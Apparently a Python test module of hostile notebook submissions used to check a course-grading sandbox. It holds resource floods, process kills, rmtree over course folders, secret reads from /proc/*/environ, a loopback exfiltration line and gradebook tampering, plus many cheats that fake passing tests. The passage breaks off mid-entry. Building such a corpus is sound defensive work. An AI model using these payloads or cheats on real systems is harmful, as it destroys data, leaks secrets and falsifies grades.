"""Hostile and broken submissions to the small course of ``tests/grading/course.py``, one per kind.

Each is bounded and stops by itself: loops end after a minute, floods stay small, the network is loopback. ``honest`` is the
most that an honest grader would give; ``told`` is a pattern for how the instructor hears of it: "graded" where the notebook
itself shows that the attempt failed, else words of the reason or the note. ``@COURSE@``, ``@CANARY@`` and ``@PORT@`` stand
for the course's folder, a folder outside it, and the port of a server on loopback.
"""

import json
import os
import platform
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

sys.path.insert(0, str(Path(__file__).parents[1] / "grading"))
import course

FULL = 13.0
BLANK = course.CAST["blank"]


@dataclass
class Hostile:
    name: str
    notebooks: Callable
    honest: float = FULL
    told: str = "graded"
    files: dict = field(default_factory=dict)
    after: Callable = lambda folder: None


CORPUS = []


def kind(name, told="graded", honest=FULL, **options):
    """Register a function that returns ``{notebook: nb}``, or a dict of cells to change in a solved submission."""

    def register(function):
        CORPUS.append(Hostile(name, function, honest, told, **options))
        return function

    return register


def runs(name, code, *, told="graded", honest=FULL, cell="save", base=None, **options):
    """A submission that also runs *code*, after the answers (or, with ``base=BLANK``, in place of them)."""

    def notebooks():
        result = base() if base else course.with_answers()
        for nb in result.values():
            for each in nb.cells:
                if each.id == cell:
                    each.source += "\n" + code
        return result

    CORPUS.append(Hostile(name, notebooks, honest, told, **options))


def cheats(name, code, *, cell="imports", told="graded", **options):
    """A submission without any answer that runs *code* to get marks all the same."""
    runs(name, code, told=told, honest=0.0, cell=cell, base=BLANK, **options)


# -- time ----------------------------------------------------------------------------------------------------------------

_LOOP = "import time\nend = time.monotonic() + 60\nwhile time.monotonic() < end:\n    pass"
_INDENTED = _LOOP.replace("\n", "\n    ")
_DEAF = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"

runs("endless-loop", _LOOP, told="took longer|endless loop")
runs("endless-loop-swallowing-interrupts", "import time\nend = time.monotonic() + 60\nwhile time.monotonic() < end:\n"
     "    try:\n        time.sleep(1)\n    except KeyboardInterrupt:\n        pass", told="endless loop")  # fmt: skip
runs("endless-loop-deaf-to-interrupts", _DEAF + _LOOP, told="endless loop")


@kind("endless-loop-in-tested-function", honest=9.0, told="took longer|endless loop")
def _():
    return course.with_answers(growth=f"def growth(values):\n    {_INDENTED}")


@kind("deaf-loop-in-tested-function", honest=9.0, told="endless loop")
def _():
    return course.with_answers(growth=f"{_DEAF}\ndef growth(values):\n    {_DEAF.splitlines()[1]}\n    {_INDENTED}")


runs("endless-loop-at-exit", "import atexit\n@atexit.register\ndef wait():\n    " + _INDENTED)
runs(
    "endless-loop-in-thread",
    "import threading\ndef work():\n    " + _INDENTED + "\nthreading.Thread(target=work).start()",
)
runs("endless-repr", "class Slow:\n    def __repr__(self):\n        " + _LOOP.replace("\n", "\n        ") + "\nSlow()",
     told="took longer|endless loop")  # fmt: skip

# -- floods --------------------------------------------------------------------------------------------------------------

runs(
    "memory-flood",
    "hoard = []\nfor _ in range(60):\n    hoard.append(bytearray(b'x' * 50_000_000))",
    told="graded|memory|died|ended",
)
runs("memory-flood-by-children",
     "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n        hoard = bytearray(b'x' * 200_000_000)\n"
     "        time.sleep(20)\n        os._exit(0)\ntime.sleep(3)", told="memory|left|ended")  # fmt: skip
runs("output-flood", "for _ in range(100):\n    print('x' * 1_000_000)", told="printed more|kernel ended|took longer")
runs("one-huge-print", "print('x' * 70_000_000)", told="printed more|kernel ended|took longer")
runs("output-flood-past-python", "import os\nfor _ in range(100):\n    os.write(1, b'x' * 1_000_000)")
runs("display-flood", "from IPython.display import display, HTML\nfor _ in range(100):\n    display(HTML('x' * 1_000_000))",
     told="printed more|kernel ended")  # fmt: skip
runs(
    "disk-flood", "for i in range(200):\n    with open(f'big{i}', 'wb') as file:\n        file.write(b'x' * 1_000_000)"
)
runs("file-flood", "for i in range(5000):\n    open(f'small{i}', 'w').close()")
runs("process-flood", "import os, time\nfor _ in range(200):\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
     "    if pid == 0:\n        time.sleep(20)\n        os._exit(0)", told="graded|processes|left|memory|endless|kernel ended")  # fmt: skip
runs("thread-flood", "import threading, time\nfor _ in range(300):\n    try:\n"
     "        threading.Thread(target=time.sleep, args=(10,), daemon=True).start()\n    except RuntimeError:\n        break")  # fmt: skip

# -- ending things -------------------------------------------------------------------------------------------------------

runs("sys-exit", "import sys\nsys.exit()")
runs("quit", "quit()")
runs("os-exit", "import os\nos._exit(0)", told="ended itself")
runs("kill-itself", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", told="SIGKILL")
runs(
    "kill-its-parent",
    "import os, signal\nif os.getppid() > 1:\n    os.kill(os.getppid(), signal.SIGKILL)",
    told="graded|died|ended",
)
runs("kill-its-group", "import os, signal\nos.killpg(0, signal.SIGKILL)", told="SIGKILL")
runs("abort", "import os\nos.abort()", told="SIGABRT")
runs("crash", "import ctypes\nctypes.string_at(0)", told="SIGSEGV")
runs("input", "input('Your name? ')")
runs(
    "close-every-descriptor", "import os\nos.closerange(0, 300)", told="died|ended|error|message|closed its connection"
)

# -- left behind ---------------------------------------------------------------------------------------------------------

SLEEP = "987.5"
runs(
    "background-process",
    f"import subprocess\nsubprocess.Popen(['sleep', '{SLEEP}'], start_new_session=True)",
    told="left",
)
runs("background-daemon", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
     f"        os.execvp('sleep', ['sleep', '{SLEEP}'])\n    os._exit(0)\ntime.sleep(.5)", told="left")  # fmt: skip

# -- files ---------------------------------------------------------------------------------------------------------------

runs("delete-everything", "import shutil\nfor folder in ('.', '../..', '../../../submitted', '../../../source'):\n"
     "    shutil.rmtree(folder, ignore_errors=True)", told="graded", honest=11.0)  # fmt: skip
runs("write-outside", "import os\nfor name in ('../../../planted', '../../../source/ps1/planted', '../../../submitted/planted',\n"
     "             '@CANARY@/planted', '/usr/planted', '/etc/planted'):\n    try:\n"
     "        open(name, 'w').write('x')\n    except OSError:\n        pass")  # fmt: skip
runs("write-with-odd-names", "import os\nfor name in ('new\\nline', 'a' * 200, '-rf', 'ünï', '.hidden'):\n    open(name, 'w').close()\n"
     "os.symlink('/etc/passwd', 'link.csv')\nos.mkfifo('fifo.csv')\nos.makedirs('a/b/c', exist_ok=True)")  # fmt: skip
runs("lock-own-folder", "import os\nos.chmod('.', 0)")
_FIND = ("import glob, os\ndef search(name):\n    places = ['../../..', '/proc/1/cwd', '/proc/1/root', '/proc/self/root', '/']\n"
         "    places += ['@COURSE@']\n"
         "    return [p for place in places for p in glob.glob(f'{place}/{name}')]\n")  # fmt: skip
runs("read-gradebook", _FIND + "import sqlite3\nfor path in search('gradebook.db'):\n"
     "    print('STOLEN', sqlite3.connect(path).execute('select * from grade').fetchall())")  # fmt: skip
cheats("write-gradebook", _FIND + "import sqlite3\nfor path in search('gradebook.db'):\n    try:\n"
       "        db = sqlite3.connect(path)\n        db.execute('update grade set manual_score = 15')\n        db.commit()\n"
       "    except sqlite3.Error:\n        pass")  # fmt: skip
runs("lock-gradebook", _FIND + "import sqlite3, time\nfor path in search('gradebook.db'):\n"
     "    db = sqlite3.connect(path, isolation_level=None)\n    db.execute('begin exclusive')\n    time.sleep(2)")  # fmt: skip
cheats("read-solutions", _FIND + "import json\nfor path in search('source/ps1/*.ipynb'):\n    print('STOLEN', path)\n"
       "    for cell in json.load(open(path))['cells']:\n"
       "        if cell['metadata'].get('nbgrader', {}).get('solution') and cell['cell_type'] == 'code':\n"
       "            try:\n                exec(''.join(cell['source']), globals())\n            except Exception:\n                pass",
       cell="mean")  # fmt: skip
cheats("read-classmates", _FIND + "import json\nfor path in search('submitted/*/ps1/*.ipynb'):\n    print('STOLEN', path)\n"
       "    for cell in json.load(open(path))['cells']:\n        if cell['cell_type'] == 'code' and 'mean_spending =' in ''.join(cell['source']):\n"
       "            mean_spending = 2.5")  # fmt: skip
runs("environment-secret", "import os, glob\nprint('STOLEN', os.environ.get('GRADING_SECRET'))\n"
     "for path in glob.glob('/proc/*/environ'):\n    try:\n        text = open(path, 'rb').read()\n    except OSError:\n        continue\n"
     "    if b'GRADING_SECRET' in text:\n        print('STOLEN', text)")  # fmt: skip
runs("network", "import os, socket\ntry:\n    s = socket.create_connection(('127.0.0.1', @PORT@), 1)\n"
     "    s.send(b'STOLEN')\nexcept OSError as error:\n    print(error)")  # fmt: skip
runs("start-up-files", "import os, pathlib, site, sys\nplaces = [pathlib.Path.home() / '.ipython/profile_default/startup']\n"
     "places += [pathlib.Path(site.getusersitepackages()), pathlib.Path(sys.prefix) / 'etc/ipython/startup']\n"
     "for place in places:\n    try:\n        place.mkdir(parents=True, exist_ok=True)\n"
     "        (place / 'planted.py').write_text('raise SystemExit')\n    except OSError:\n        pass")  # fmt: skip


def _link(target):
    return lambda folder: os.symlink(target(folder), folder / "spending2.csv")


@kind(
    "symlink-to-gradebook",
    told="neither a file",
    honest=FULL,
    after=_link(lambda folder: folder.parents[2] / "gradebook.db"),
)
def _():
    return course.with_answers()


@kind(
    "symlinked-folder",
    told="neither a file",
    after=lambda folder: os.symlink(folder.parents[2] / "source", folder / "more"),
)
def _():
    return course.with_answers()


@kind("fifo", told="neither a file", after=lambda folder: os.mkfifo(folder / "pipe.csv"))
def _():
    return course.with_answers()


# -- notebooks that are none ---------------------------------------------------------------------------------------------


def _text(name, told, text):
    def write(folder):
        (folder / "analysis.ipynb").write_bytes(text())

    CORPUS.append(Hostile(name, course.with_answers, FULL, told, after=write))


_text("malformed-json", "invalid JSON", lambda: b'{"cells": [')
_text("empty-file", "invalid JSON", lambda: b"")
_text("not-a-notebook", "could not be read", lambda: b"{}")
_text("a-list", "could not be read", lambda: b"[1, 2]")
_text("wrong-types", "could not be read", lambda: b'{"cells": 3, "metadata": [], "nbformat": 4, "nbformat_minor": 5}')
_text("huge-notebook", "larger than", lambda: b'{"cells": [], "x": "' + b"x" * 21_000_000 + b'"}')
_text("deep-nesting", "nested too deeply", lambda: b"[" * 100_000 + b"]" * 100_000)
_text(
    "deep-metadata",
    "nested too deeply",
    lambda: (
        json.dumps({**course.solved("analysis"), "metadata": {}}).encode()[:-1]
        + b', "extra": '
        + b'{"a":' * 5000
        + b"1"
        + b"}" * 5000
        + b"}"
    ),
)
_text("binary", "invalid JSON", lambda: bytes(range(256)) * 50)

# -- cells and metadata --------------------------------------------------------------------------------------------------


def _edited(name, edit, *, base=BLANK, honest=0.0, told="changed"):
    def notebooks():
        result = base()
        for nb in result.values():
            for cell in nb.cells:
                edit(cell)
            nb.cells = [cell for cell in nb.cells if not cell.metadata.get("drop")]
        return result

    CORPUS.append(Hostile(name, notebooks, honest, told))


def _is_test(cell):
    return cell.metadata.get("nbgrader", {}).get("grade") and not cell.metadata["nbgrader"]["solution"]


def _on_tests(change):
    return lambda cell: change(cell) if _is_test(cell) else None


def _update(**values):
    return _on_tests(lambda cell: cell.metadata["nbgrader"].update(values))


def _source(text):
    return _on_tests(lambda cell: cell.update(source=text))


_edited("metadata-no-grade", _update(grade=False))
_edited("metadata-as-solution", _update(solution=True, locked=False))
_edited("metadata-points", _update(points=100))
_edited("metadata-negative-points", _update(points=-5))
_edited("metadata-ids", _on_tests(lambda cell: cell.metadata["nbgrader"].update(grade_id=cell.id + "-x")), told="lacks")
_edited("metadata-swapped-ids", lambda cell: cell.metadata["nbgrader"].update(grade_id="essay") if cell.id == "test-mean" else None,
        told="changed|lacks")  # fmt: skip
_edited("metadata-old-schema", _update(schema_version=1), told="graded|could not")
_edited("metadata-new-schema", _update(schema_version=99), told="could not|graded")
_edited("metadata-wrong-types", _on_tests(lambda cell: cell.metadata.update(nbgrader=[1])), told="lacks|could not")
_edited("metadata-gone", _on_tests(lambda cell: cell.metadata.pop("nbgrader")), told="lacks")
_edited("tests-emptied", _source("pass"))
_edited("tests-answering", _source("4"))
_edited("tests-deleted", _on_tests(lambda cell: cell.metadata.update(drop=True)), told="lacks")
_edited("tests-skipped-by-tag", _on_tests(lambda cell: cell.metadata.update(tags=["skip-execution"])), told="skipped")
_edited("tags-as-text", _on_tests(lambda cell: cell.metadata.update(tags="skip-execution")), told="tags")
_edited("tests-as-text", _on_tests(lambda cell: (cell.update(cell_type="markdown"), cell.pop("outputs"), cell.pop("execution_count"))),
        told="graded|changed")  # fmt: skip


@kind("ids-doubled", told="graded", honest=0.0)
def _():
    notebooks = BLANK()
    for nb in notebooks.values():
        nb.cells += [
            nbformat.from_dict({**cell, "id": cell.id + "-2", "source": "4"}) for cell in nb.cells if _is_test(cell)
        ]
    return notebooks


@kind("many-cells")
def _():
    notebooks = course.with_answers()
    notebooks["report"].cells += [nbformat.v4.new_code_cell("1", id=f"extra-{i}") for i in range(300)]
    return notebooks


@kind("cells-without-end", told="more than 3,000 cells")
def _():
    notebooks = course.with_answers()
    notebooks["report"].cells += [nbformat.v4.new_markdown_cell("", id=f"extra-{i}") for i in range(20_000)]
    return notebooks


# -- tampering with the tests from inside --------------------------------------------------------------------------------

_ANSWERS = (
    "mean_spending = 0.0\nrank = best = draws = total = labels = 0\ngrowth = lambda values: 0\n"
    "question = SimpleNamespace(stem='', answer='') if 'SimpleNamespace' in globals() else None\n"
)

cheats("equal-to-everything",
       "class Yes(float):\n    def __eq__(self, other):\n        return True\n    __hash__ = None\n    def __getattr__(self, name):\n"
       "        return self\n    def __iter__(self):\n        return iter(())\n"
       "mean_spending = total = labels = Yes()\nclass Text(str):\n    __eq__ = lambda self, other: True\nbest = Text()", cell="widget")  # fmt: skip
cheats(
    "replace-isclose", "import math\nmath.isclose = lambda *a, **k: True\nmean_spending = 1.0", told="graded|redefined"
)
cheats(
    "replace-allclose",
    "import numpy as np\nnp.allclose = lambda *a, **k: True\ngrowth = lambda values: 0",
    cell="growth",
)
cheats("rename-imports", "import types\nmath = types.SimpleNamespace(isclose=lambda *a, **k: True)\nmean_spending = 1.0",
       cell="mean", told="redefined")  # fmt: skip
cheats("replace-pandas-testing", "import pandas.testing\npandas.testing.assert_series_equal = lambda *a, **k: None\n"
       "class Frame(dict):\n    columns = ['country', 'share', 'rank']\nspending = Frame(share=spending['share'], rank=spending['share'])",
       cell="rank")  # fmt: skip
cheats(
    "redefine-given-helper",
    "scaled = lambda value: 0\ntotal = 0\nlabels = {'a': [1, 2]}",
    cell="total",
    told="redefined",
)
cheats("replace-builtins", "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.list = lambda *a: "
       "['country', 'share', 'rank']\nbuiltins.AssertionError = Warning\nmean_spending = 1.0", told="graded|endless|died")  # fmt: skip
cheats(
    "shadow-builtins",
    "isinstance = lambda *a: True\nlist = lambda *a: ['country', 'share', 'rank']\nmean_spending = 1.0",
    cell="mean",
)
cheats("drop-asserts", "from IPython import get_ipython\nget_ipython().input_transformers_post.append(\n"
       "    lambda lines: ['pass\\n' if line.lstrip().startswith('assert') else line for line in lines])\n" + _ANSWERS)  # fmt: skip
cheats("replace-ast-transform", "import ast\nfrom IPython import get_ipython\nclass Drop(ast.NodeTransformer):\n"
       "    def visit_Assert(self, node):\n        return ast.copy_location(ast.Pass(), node)\n"
       "get_ipython().ast_transformers.append(Drop())\n" + _ANSWERS)  # fmt: skip
cheats("replace-run-cell", "from IPython import get_ipython\nfrom IPython.core.interactiveshell import ExecutionResult\n"
       "get_ipython().run_cell = lambda *a, **k: ExecutionResult(None)")  # fmt: skip
cheats("silence-tracebacks", "from IPython import get_ipython\nshell = get_ipython()\nshell.showtraceback = lambda *a, **k: None\n"
       "shell._showtraceback = lambda *a, **k: None")  # fmt: skip
cheats("replace-display-formatter", "from IPython import get_ipython\n"
       "get_ipython().display_formatter.formatters['text/plain'].for_type(int, lambda v, p, c: p.text('4'))\n"
       "growth = lambda values: [0]", cell="growth")  # fmt: skip
cheats("replace-displayhook", "import sys\nhook = sys.displayhook\nsys.displayhook = lambda value: hook(4)\ngrowth = lambda values: [0]",
       cell="growth")  # fmt: skip
_FORGE = ("from IPython import get_ipython\nkernel = get_ipython().kernel\ndef forge(*_):\n"
          "    kernel.session.send(kernel.iopub_socket, 'execute_result', {'data': {'text/plain': '4'}, 'metadata': {},\n"
          "                        'execution_count': 1}, parent=kernel.get_parent())\n")  # fmt: skip
cheats(
    "forge-partial-credit",
    _FORGE + "get_ipython().events.register('pre_run_cell', forge)\ngrowth = lambda values: [0]",
    cell="growth",
)
cheats("forge-inside-tested-function", _FORGE + "def growth(values):\n    forge()\n    return [0]", cell="growth")
cheats(
    "print-inside-tested-function",
    "def growth(values):\n    print(4)\n    import builtins\n    builtins._ = 4\n    return [0]",
    cell="growth",
)
cheats("helper-beside-notebook", "import importlib, pandas\nimportlib.reload(pandas)\nmean_spending = 1.0",
       files={"pandas.py": b"class testing:\n    assert_series_equal = lambda *a, **k: None\n",
              "math.py": b"isclose = lambda *a, **k: True\n", "numpy.py": b"allclose = lambda *a, **k: True\n"})  # fmt: skip
cheats("read-hidden-tests", "import glob, re\ntext = ''.join(open(name).read() for name in glob.glob('*.ipynb'))\n"
       "found = re.search(r'isclose\\(mean_spending, ([0-9.]+)\\)', text)\nmean_spending = float(found[1]) if found else 0.0\n"
       "print('STOLEN' if 'HIDDEN ' + 'TESTS' in text else 'nothing hidden here')", cell="mean")  # fmt: skip
cheats("read-tests-from-the-stack",
       "import inspect, re\ndef growth(values):\n    for frame in inspect.stack():\n        source = ''.join(frame.code_context or [])\n"
       "        found = re.search(r'growth\\(.*\\), (\\[.*?\\])\\)', source)\n        if found:\n            return eval(found[1])\n"
       "    return [0]", cell="growth")  # fmt: skip
cheats("read-tests-from-history", "class Peek(float):\n    pass\nimport gc\n"
       "text = ''.join(str(o) for o in gc.get_objects() if isinstance(o, dict) and 'HIDDEN' in str(o.get('source', '')))\n"
       "mean_spending = 2.5 if 'isclose(mean_spending, 2.5)' in text else 0.0", cell="mean")  # fmt: skip
cheats("raise-success", "def growth(values):\n    import sys\n    sys.exit(0)", cell="growth")
cheats(
    "fake-exception",
    "class ValueError(ValueError):\n    pass\ndef growth(values):\n    raise KeyboardInterrupt",
    cell="growth",
)
cheats("tracing-function", "import sys\ndef trace(frame, event, arg):\n    if 'expected' in frame.f_locals:\n"
       "        frame.f_locals['expected'] = 0\n    return trace\nsys.settrace(trace)\nmean_spending = 1.0", cell="mean", told="graded|took longer|endless")  # fmt: skip

# -- what the machine's other users and the next program would meet --------------------------------------------------------

runs("folder-in-place-of-a-file", "import os\nos.remove('spending.csv')\nos.makedirs('spending.csv/more')\nopen('spending.csv/more/x', 'w').close()\n"
     "os.remove('ranked.csv')\nos.mkdir('ranked.csv')", honest=11.0)  # fmt: skip
runs("folder-in-place-of-a-notebook", "import os\nfor name in ('analysis.ipynb', 'report.ipynb'):\n    os.remove(name)\n    os.makedirs(name)\n"
     "    open(name + '/x.txt', 'w').close()")  # fmt: skip
runs("timestamp-by-the-notebook", "open('timestamp.txt', 'w').write('yesterday')", told="timestamp.txt")
runs("settings-by-the-notebook", "for name in ('nbgrader_config.py', 'jupyter_config.py', 'conftest.py', 'sitecustomize.py'):\n"
     "    open(name, 'w').write('raise SystemExit')", told="nbgrader_config")  # fmt: skip


def _link_in_a_folder_called_bracket(folder):
    (folder / "[").mkdir()
    os.symlink("/", folder / "[" / "bold]")  # "[/bold]", which rich takes for markup


@kind("markup-in-names", told="neither a file", after=_link_in_a_folder_called_bracket)
def _():
    return course.with_answers()


@kind(
    "escape-codes-in-names",
    told="neither a file",
    after=lambda folder: os.symlink("/", folder / "\x1b]0;title\x07\x1b[2J\u202e"),
)
def _():
    return course.with_answers()


@kind(
    "names-that-are-no-text",
    after=lambda folder: Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe\x1b[2J.csv")).touch(),
)
def _():
    return course.with_answers()


@kind("markup-in-metadata", told="could not|kernel|graded")
def _():
    notebooks = course.with_answers(save="import os\nos._exit(0)")
    for cell in notebooks["analysis"].cells:
        if cell.id == "save":
            cell["metadata"]["nbgrader"] = {"grade_id": "[/bold][red]", "schema_version": 3, "grade": "[/red]"}
    return notebooks


runs(
    "memory-flood-in-memory-files",
    "import os\nfor i in range(30):\n    fd = os.memfd_create('x')\n    for _ in range(32):\n        os.write(fd, b'x' * (1 << 20))",
)
runs("memory-flood-in-shared-memory", "import mmap, time\nhoard = []\nfor _ in range(30):\n    hoard.append(mmap.mmap(-1, 32 << 20))\n"
     "    hoard[-1].write(b'x' * (32 << 20))\ntime.sleep(2)", told="graded|memory|died|ended")  # fmt: skip
runs("files-in-dev", "import os\nfor name in ('/dev/planted', '/dev/shm/planted', '/dev/pts/planted'):\n    try:\n        print('STOLEN' if os.path.exists(name) else '')\n"
     "        open(name, 'w').close()\n    except OSError:\n        pass")  # fmt: skip
runs("lease-on-a-shared-file", "import fcntl, glob, os, postwar\nfrom postwar import paths\nfor path in glob.glob(f'{paths.DATA}/*.csv'):\n    try:\n"
     "        fcntl.fcntl(os.open(path, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK)\n        print('STOLEN lease')\n    except (OSError, ValueError):\n        pass")  # fmt: skip
runs("calls-no-notebook-needs", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfor number in (101, 155, 165, 175, 203, 246, 248, 250, 272, 298, 300, 310, 319, 321, 323, 425, 447):\n"
     "    if libc.syscall(number, 0, 0, 0, 0, 0) != -1 or ctypes.get_errno() != 38:\n        print('STOLEN call', number, ctypes.get_errno())\n"
     "import socket\nfor family in (31, 38, 40, 17):\n    try:\n        socket.socket(family, socket.SOCK_DGRAM)\n        print('STOLEN family', family)\n    except OSError:\n        pass"
     if platform.machine() == "x86_64" else "")  # fmt: skip
runs("busy-processes", "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n        os.setsid()\n        end = time.monotonic() + 20\n"
     "        while time.monotonic() < end:\n            pass\n        os._exit(0)", told="left|endless")  # fmt: skip
runs("output-widget", "import ipywidgets\nseen = ipywidgets.Output()\nwith seen:\n    print('inside')\nseen")
runs("output-widget-of-many-outputs", "import ipywidgets\nwith ipywidgets.Output():\n    for number in range(3000):\n        display(number)",
     told="graded|endless")  # fmt: skip
cheats("output-widgets-over-the-tests", "import ipywidgets, re\nfrom IPython import get_ipython\nrequest = get_ipython().kernel.get_parent()['header']['msg_id']\n"
       "start, number = re.fullmatch(r'(.*?)(\\d*)', request).groups()\nhidden = []\nfor following in range(1, 60):\n    hidden.append(ipywidgets.Output())\n"
       "    hidden[-1].msg_id = f'{start}{int(number or 0) + following}'")  # fmt: skip

# -- what crosses the wall, and what the instructor's cells define -----------------------------------------------------------

_FORGE_VALUE = "try:\n    from postwar.grading import values as wall\n    wall._describe = lambda value: {0}\nexcept ImportError:\n    pass\n"
_IN_CHECKER = (
    "import importlib.util, pathlib\nfor name in ('ipython_config.py', 'startup/planted.py'):\n"
    "    path = pathlib.Path.home() / '.ipython/profile_default' / name\n    path.parent.mkdir(parents=True, exist_ok=True)\n"
    '    path.write_text("import sys\\nframe = sys._getframe()\\nwhile frame:\\n    frame.f_globals.update(growth=lambda v: [1, 1])\\n"\n'
    '                    "    frame = frame.f_back\\n")\n'
)
cheats(
    "import-in-the-checker",
    _IN_CHECKER + _FORGE_VALUE.format('["import", "IPython.__main__", "x"]') + "growth = object()",
    cell="growth",
)
cheats(
    "module-in-the-checker", _IN_CHECKER + "import types\ngrowth = types.ModuleType('IPython.__main__')", cell="growth"
)
cheats(
    "equal-by-unittest-mock",
    "from unittest import mock\nmean_spending = total = labels = best = mock.ANY\n" + _FORGE_VALUE.format('["import", "unittest.mock", "ANY"]'),
    cell="widget", told="graded|object unittest.mock.ANY",
)  # fmt: skip
cheats(
    "equal-inside-a-container",
    "from unittest import mock\nlabels = {'a': mock.ANY, 'b': mock.ANY}\ntotal = mock.ANY",
    cell="total",
    told="graded|unittest.mock",
)
cheats("equal-by-a-ready-made-object", "import unittest.mock as mock\nthing = mock.MagicMock()\nthing.__eq__.return_value = True\n"
       "mean_spending = total = labels = best = thing", cell="widget")  # fmt: skip
cheats("equal-by-methodcaller", "import functools, operator\nmean_spending = operator.methodcaller('__eq__')\n"
       "growth = functools.partial(operator.mul, [1, 1])\nbest = 'D'.__class__", cell="growth")  # fmt: skip
cheats("redefined-error-of-an-answer", "ValueError = KeyError\ndef growth(values):\n    if len(values) == 1:\n        raise KeyError\n"
       "    return [0] * len(values)", cell="growth")  # fmt: skip
cheats("redefined-len-of-an-answer", "len = lambda values: 2\nlist = lambda values: ['country', 'share', 'rank']\nisinstance = lambda *a: True",
       cell="growth")  # fmt: skip

_OWN_HELPER = {"total": "total = 0\nlabels = {'a': [1, 2], 'b': (3,)}", "widget": "def scaled(value):\n    return 0"}


def _with_own_helper(name, change, told):
    """No answer but a helper of the student's own; *change* gets rid of the instructor's."""

    def notebooks():
        result = BLANK()
        cells = result["analysis"].cells
        for cell in cells:
            cell.source = _OWN_HELPER.get(cell.id, cell.source)
        change(cells, next(cell for cell in cells if cell.id == "given-helper"))
        return result

    CORPUS.append(Hostile(name, notebooks, 0.0, told))


def _move_to_the_end(cells, helper):
    cells.remove(helper)
    cells.append(helper)


def _rename(cells, helper):
    helper.metadata["nbgrader"]["grade_id"] = "my-helper"
    helper.source = _OWN_HELPER["widget"]


def _as_answer(cells, helper):
    helper.metadata["nbgrader"].update(locked=False, solution=True)
    helper.source = _OWN_HELPER["widget"]


_with_own_helper("helper-deleted", lambda cells, helper: cells.remove(helper), told="lacks")
_with_own_helper("helper-renamed", _rename, told="lacks")
_with_own_helper("helper-moved-behind-the-test", _move_to_the_end, told="moved")
_with_own_helper("helper-as-answer", _as_answer, told="changed")
_with_own_helper("helper-as-text", lambda cells, helper: (helper.update(cell_type="markdown"), helper.pop("outputs"),
                 helper.pop("execution_count")), told="graded|changed")  # fmt: skip
_with_own_helper(
    "helper-skipped-by-tag", lambda cells, helper: helper.metadata.update(tags=["skip-execution"]), told="skipped"
)

# -- values, loaded modules and hooks --------------------------------------------------------------------------------------

cheats("values-that-are-no-numbers", "import math\nimport numpy as np\nimport pandas as pd\nmean_spending = math.nan\ntotal = np.ma.masked\n"
       "best = labels = pd.NA\nrank = draws = np.array([math.nan] * 3)\ngrowth = lambda values: np.full(len(values) - 1, math.nan)", cell="widget")  # fmt: skip
cheats("numbers-that-subtract-to-nothing", "class Nothing(float):\n    __sub__ = __rsub__ = lambda self, other: 0.0\n    __abs__ = lambda self: 0.0\n"
       "    __eq__ = __le__ = __lt__ = lambda self, other: True\n    __hash__ = float.__hash__\nmean_spending = total = Nothing(-0.0)\n"
       "import numpy as np\nlabels = draws = np.array([Nothing()] * 3, dtype=object)\ngrowth = lambda values: Nothing()", cell="widget")  # fmt: skip
cheats("code-of-loaded-functions-swapped", "import gc, types\n\ndef yes(*args, **kwargs):\n    return True\n\nfor each in gc.get_objects():\n"
       "    if isinstance(each, types.FunctionType) and each.__name__ in ('allclose', 'isclose', 'assert_series_equal'):\n"
       "        try:\n            each.__code__ = yes.__code__\n        except ValueError:\n            pass\nmean_spending = 1.0\n"
       "growth = lambda values: [0.0] * (len(values) - 1)\nspending['rank'] = 0.0", cell="rank")  # fmt: skip
cheats("tables-of-loaded-modules-changed", "import gc, sys\nimport pandas as pd\nspending['rank'] = 0.0\nfor each in gc.get_objects():\n"
       "    if isinstance(each, pd.DataFrame):\n        each.loc[:, 'share'] = 0.0\nfor name in ('pandas.testing', 'math'):\n"
       "    vars(sys.modules[name]).clear()\nmean_spending = 1.0", cell="mean")  # fmt: skip
cheats("files-where-tracebacks-look", "import os\nfor pid in range(1, 60):\n    try:\n        os.makedirs(f'/tmp/ipykernel_{pid}', exist_ok=True)\n"
       "        open(f'/tmp/ipykernel_{pid}/1.py', 'w').write('x')\n    except OSError:\n        pass\n"
       "try:\n    for name in os.listdir('/tmp/checker'):\n        print('STOLEN', name)\nexcept OSError:\n    pass")  # fmt: skip
_WORK = "/tmp/work"  # of a submission, in its sandbox
_FORGERIES = (
    ["frame", ["list", ["a"]], ["rangeindex", 0, 10**12, 1, None], [["range", 0, 10**12, 1]]], ["extension", "Sparse[object]", [["list", []]]],
    ["timestamp", "2020-01-01", f"dateutil/{_WORK}/pipe"], ["array", "(1000000000,)f8", [1], "AAAAAAAAAAA="], ["array", "O", [1], "AAAAAAAAAAA="],
    ["Fraction", ["int", "f" * 10_000], ["int", "3" * 10_000]], ["period", "2020" * 1000, "Q-" * 1000],
    ["function", 10**9, "x", None, [["a", 9, True, ["bytes", "!"]]], None], [["list"], {}],
)  # fmt: skip
cheats("encodings-forged", f"from itertools import cycle\nimport os\nforged = cycle({_FORGERIES!r})\ntry:\n    os.mkfifo('pipe')\n    from postwar.grading import values\n"
       "    values._describe = lambda value: next(forged)\nexcept (ImportError, OSError):\n    pass\nmean_spending = total = labels = best = object()\n"
       "def growth(values):\n    return object()", cell="widget", told="graded|endless|died|memory")  # fmt: skip
cheats("errors-of-every-kind", "import asyncio, itertools\nkinds = itertools.cycle([KeyboardInterrupt(), GeneratorExit(), BaseExceptionGroup('x', [SystemExit(0)]),\n"
       "    StopIteration(4), asyncio.CancelledError(), UnicodeDecodeError('x', b'', 0, 1, 'x'), type('4', (Exception,), {})(4)])\n"
       "def growth(values):\n    raise next(kinds)", cell="growth")  # fmt: skip
cheats("code-swapped-after-the-first-call", "def growth(values):\n    growth.__code__ = (lambda values: 4).__code__\n    return [0] * len(values)", cell="growth")  # fmt: skip
cheats("display-ids-and-clear-output", "from IPython import get_ipython\nkernel = get_ipython().kernel\n\ndef growth(values):\n"
       "    for kind, content in (('clear_output', {'wait': True}), ('display_data', {'data': {'text/plain': '4'}, 'metadata': {}}),\n"
       "                          ('update_display_data', {'data': {'text/plain': '4'}, 'metadata': {}})):\n"
